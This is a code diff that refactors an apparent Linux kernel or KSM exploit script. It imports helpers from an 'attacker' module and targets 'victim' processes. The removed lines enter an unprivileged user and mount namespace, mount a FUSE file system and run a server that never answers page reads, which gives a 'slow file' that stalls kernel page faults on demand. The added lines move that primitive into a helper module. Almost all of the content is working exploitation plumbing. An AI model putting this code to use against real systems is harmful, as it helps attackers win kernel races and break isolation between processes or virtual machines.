@@ -16,48 +16,10 @@ The victims have no mergeable memory: ksmd, and each write to KSM's `run`, would
 import os
 import struct
 import sys
-import threading
 import time
 
-from attacker import HYPERVISOR, PAGE, PR_SET_NAME, become, call, die_with_parent, end_with_input, libc, memory, prctl
-
-CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000
-FUSE_LOOKUP, FUSE_FORGET, FUSE_GETATTR, FUSE_OPEN, FUSE_READ = 1, 2, 3, 14, 15
-FUSE_FLUSH, FUSE_INIT, FUSE_INTERRUPT, FUSE_BATCH_FORGET = 25, 26, 36, 42
-ENOSYS = 38
-
-
-def enter_namespace():
-    """Makes a namespace in which the user may mount."""
-    uid, gid = os.getuid(), os.getgid()
-    call("unshare", CLONE_NEWUSER | CLONE_NEWNS)
-    for name, text in [("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")]:
-        with open(f"/proc/self/{name}", "w") as file:
-            file.write(text)
-
-
-def serve(fuse):
-    """Answers all requests but those for pages."""
-    attributes = struct.pack("<6Q10I", 1, 1 << 20, 2048, 0, 0, 0, 0, 0, 0, 0o100666, 1, 0, 0, 0, PAGE, 0)
-    while True:
-        try:
-            request = os.read(fuse, 1 << 18)
-        except OSError:
-            return
-        _, operation, unique = struct.unpack_from("<IIQ", request)
-        if operation in (FUSE_READ, FUSE_FORGET, FUSE_INTERRUPT, FUSE_BATCH_FORGET):
-            continue
-        body, error = b"", 0
-        if operation == FUSE_INIT:
-            body = struct.pack("<IIIIHHIIHHI7I", 7, 31, 0, 0, 12, 9, PAGE, 1, 0, 0, 0, *([0] * 7))[:64]
-        elif operation == FUSE_GETATTR:
-            body = struct.pack("<QII", 3600, 0, 0) + attributes
-        elif operation == FUSE_FLUSH:
-            # The kernel sends no other then: closing the file never waits for this server.
-            error = -ENOSYS
-        elif operation == FUSE_OPEN:
-            body = struct.pack("<QII", 1, 0, 0)
-        os.write(fuse, struct.pack("<IiQ", 16 + len(body), error, unique) + body)
+from attacker import HYPERVISOR, PAGE, PR_SET_NAME, become, die_with_parent, end_with_input, libc, memory, prctl
+from slow_file import mount_in_namespace, open_slow_file
 
 
 def victim(file, told, go):
@@ -115,17 +77,8 @@ def hold(fuse, file):
 def main():
     user, place, device, count = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
     become(user)
-    enter_namespace()
-    path = os.path.join(place, f"slow-{os.getpid()}")
-    open(path, "w").close()
-    fuse = os.open(device, os.O_RDWR)
-    options = f"fd={fuse},rootmode=100000,user_id=0,group_id=0"
-    call("mount", b"slow", path.encode(), b"fuse", 6, options.encode())
-    threading.Thread(target=serve, args=(fuse,), daemon=True).start()
-    file = os.open(path, os.O_RDONLY)
-    # The kernel asks for the length by this. Beyond it no page is asked for.
-    os.fstat(file)
-    os.close(os.dup(file))
+    fuse, path = mount_in_namespace(place, device)
+    file = open_slow_file(fuse, path)
     for _ in range(count):
         print(hold(fuse, file), flush=True)
     # The file system ends with its server, and so does each wait.
